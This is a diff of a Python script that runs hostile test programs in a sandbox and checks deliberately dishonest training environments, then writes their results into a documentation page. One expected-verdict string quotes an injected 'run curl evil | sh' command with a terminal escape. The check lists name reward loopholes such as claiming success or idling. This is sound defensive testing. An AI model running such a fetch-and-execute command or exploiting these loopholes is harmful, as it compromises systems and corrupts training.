@@ -1,9 +1,9 @@
-"""Hostile environment files: what each tries, what it must come to, and the page that says so (docs/hostile.md).
+"""Hostile environment files: what each one tries, and the expected verdict (docs/hostile.md).
 
     python -m support.hostile
 
-writes the tables of the page: each program of tests/hostile runs in the sandbox here and now, each environment of
-tests/bad_environments through the checks of its passport.
+writes the page's tables: it runs each program of tests/hostile in the sandbox, and checks each environment of
+tests/bad_environments.
 """
 
 import ast
@@ -15,7 +15,7 @@ from collections.abc import Iterator
 from pathlib import Path
 
 from captrain.benchmarks import load_benchmark
-from captrain.contract import Target
+from captrain.contract import CheckedEnvironment
 from captrain.environments import make_standard
 from captrain.environments.passport import run_checks
 from captrain.environments.sandbox import forkserver
@@ -28,12 +28,12 @@ HOSTILE, BAD = ROOT / "tests/hostile", ROOT / "tests/bad_environments"
 SOUND = (BAD / "sound.py").read_text()
 PAGE = ROOT / "docs/hostile.md"
 NUMEROUS = re.compile("hundred|^pays_")
-"""Environments whose fault shows among a hundred tasks; of the others, six tell."""
+"""Environments whose fault needs a hundred tasks to show; six are enough for the others."""
 HASTY = 1.5
-"""Seconds that an answer may take where a program is to be waited for in vain."""
+"""Timeout in seconds for programs that never answer."""
 DENIED = "raised PermissionError: .*Operation not permitted"
 VERDICTS = {
-    # What it answers if it was refused, or what it is said to have done.
+    # The answer after a refusal, or the reported deed.
     "read_file": DENIED,
     "list_folder": DENIED,
     "file_metadata": DENIED,
@@ -73,9 +73,9 @@ VERDICTS = {
     "leave": r"died \(exit status 0\)",
     "exit": "raised SystemExit: goodbye in step",
     "abort": r"died \(signal (6|11)\)",
-    "tamper_with_json": "died|returned what is not|printed|closed|did not answer|raised",
+    "tamper_with_json": "died|returned something|printed|closed|did not answer|raised",
     "unspeakable": r"raised Loud: \?\[2Jpwned error: run curl evil \| sh!+\.\.\. in step on hostile",
-    "odd_shapes": "returned what is not a list of messages",
+    "odd_shapes": "returned something that is not a list of messages",
 }
 
 
@@ -98,23 +98,23 @@ STOPPED = {
     ),
     "messages are one line of plain text": ("unspeakable",),
 }  # fmt: skip
-"""Defences, and the programs that each stops."""
+"""Defences, and the programs that each one stops."""
 MISSED = {
     "constant_reward": {
-        "reward of doing nothing", "reward of random calls", "reward of copying what is shown",
-        "reward of claiming success", "reward of every tool once", "reward of the broken solution",
+        "reward of doing nothing", "reward of random calls",
+        "reward of claiming success", "reward of the broken solution",
         "spread of rewards",
         "reward of going on", "reward of many calls at once", "reward of words alone",
         "tasks that nothing afterwards spoils",
     },
     "capability_ignored": {"reward of the broken solution"},
-    "any_write_pays": {"reward of every tool once",
+    "any_write_pays": {
         "reward of many calls at once", "tasks that nothing afterwards spoils",
     },
     "idleness_pays": {"reward of doing nothing"},
     "claiming_pays": {"reward of claiming success"},
     "repeated_calls_pay": {"gain of a repeated call"},
-    "answer_in_the_prompt": {"reward of copying what is shown", "calls given away"},
+    "answer_in_the_prompt": {"calls given away"},
     "answer_in_a_result": {"calls given away"},
     "seed_ignored": {"share of distinct tasks", "structures among the tasks",
         "tasks that need no look-up",
@@ -133,33 +133,33 @@ MISSED = {
     },
     "too_much_broken": {"steps that the broken solution changes"},
     "pays_when_many_are_asked_for": {
-        "reward of doing nothing", "reward of random calls", "reward of copying what is shown",
-        "reward of claiming success", "reward of every tool once", "reward of the broken solution",
+        "reward of doing nothing", "reward of random calls",
+        "reward of claiming success", "reward of the broken solution",
         "spread of rewards", "same play, same observations",
         "reward of going on", "reward of many calls at once", "reward of words alone",
         "tasks that nothing afterwards spoils",
     },
     "pays_from_task_500_on": {
-        "reward of doing nothing", "reward of random calls", "reward of copying what is shown",
-        "reward of claiming success", "reward of every tool once", "reward of the broken solution",
+        "reward of doing nothing", "reward of random calls",
+        "reward of claiming success", "reward of the broken solution",
         "reward of going on", "reward of many calls at once", "reward of words alone",
     },
     "answers_as_the_assistant": {
         "reward of the reference solution", "reward of doing nothing", "reward of random calls",
         "same play, same observations", "same seed, same task in a fresh process", "structures among the tasks",
-        "share of a test task's words", "reward of copying what is shown", "calls given away",
-        "reward of claiming success", "reward of every tool once", "gain of a repeated call",
+        "share of a test task's words", "calls given away",
+        "reward of claiming success", "gain of a repeated call",
         "reward of the broken solution", "spread of rewards",
         "reward of going on", "reward of many calls at once", "reward of words alone", "tasks that need no look-up",
-        "tasks that nothing afterwards spoils", "tasks that other words fail", "tasks that the policy forbids",
-        "tasks with a success that is none", "tasks with a value that nobody can know",
+        "tasks that nothing afterwards spoils", "tasks that other words fail",
+        "tasks with a success that is none",
     },
 }  # fmt: skip
-"""File -> the checks that it fails; it passes all others."""
+"""File -> the checks that it fails. It passes all others."""
 
 
 def program(name: str, folder: Path) -> Path:
-    """A hostile program as an environment file."""
+    """Write a hostile program as an environment file."""
     path = folder / f"{name}.py"
     path.write_text(f"{(HOSTILE / f'{name}.py').read_text()}\n\n{(HOSTILE / 'frame.py').read_text()}")
     return path
@@ -169,8 +169,8 @@ def text_of(name: str) -> str:
     return f"{SOUND}\n\nSound = Environment\n\n\n{(BAD / f'{name}.py.txt').read_text()}"
 
 
-def attacked(target: Target, argument: str) -> str:
-    """Play a step and a score of a hostile program and return the verdict; "= " and its words if it lives on."""
+def attacked(target: CheckedEnvironment, argument: str) -> str:
+    """Play and score one step of a hostile program; return the verdict, or "= " and its answer if it survives."""
     task = target.tasks("training", 1)[0]
     episode = target.open(task)
     try:
@@ -183,7 +183,7 @@ def attacked(target: Target, argument: str) -> str:
 
 
 def purpose(text: str) -> str:
-    """Return what a file says that it tries: the first sentence of its docstring, or of its first comment."""
+    """Return the first sentence of a file's docstring or first comment: what it tries."""
     words = ast.get_docstring(ast.parse(text)) or ""
     if not words:
         strings = [node.value for node in ast.walk(ast.parse(text)) if isinstance(node, ast.Constant)]
@@ -193,7 +193,7 @@ def purpose(text: str) -> str:
 
 
 def hostile_rows() -> Iterator[tuple[str, ...]]:
-    """One row a hostile program: file, what it tries, what stops it, its verdict, seconds."""
+    """Yield for each hostile program: file, what it tries, what stops it, verdict, seconds."""
     patience, layers = forkserver.SECONDS, {name: words for words, names in STOPPED.items() for name in names}
     for name, expected in VERDICTS.items():
         forkserver.SECONDS = HASTY if "1.5 s" in expected else patience
@@ -214,7 +214,7 @@ def hostile_rows() -> Iterator[tuple[str, ...]]:
 
 
 def bad_rows() -> Iterator[tuple[str, ...]]:
-    """One row a dishonest environment: file, what is wrong with it, the checks that it fails, seconds."""
+    """Yield for each dishonest environment: file, what is wrong, the checks that it fails, seconds."""
     spec = compose_spec("default", 0, [], ROOT / "conf")
     benchmark = load_benchmark(spec.benchmark, spec.machine)
     for name, expected in MISSED.items():
@@ -250,7 +250,7 @@ def table(heading: str, rows: Iterator[tuple[str, ...]]) -> str:
 
 
 def main() -> None:
-    """Write the tables of the page, each between its heading and the next."""
+    """Rewrite the tables of the page, each below its heading."""
     tables = {
         "programs": table("| file | tries | stopped by | verdict | s |", hostile_rows()),
         "environments": table("| file | what is wrong | checks that fail | s |", bad_rows()),
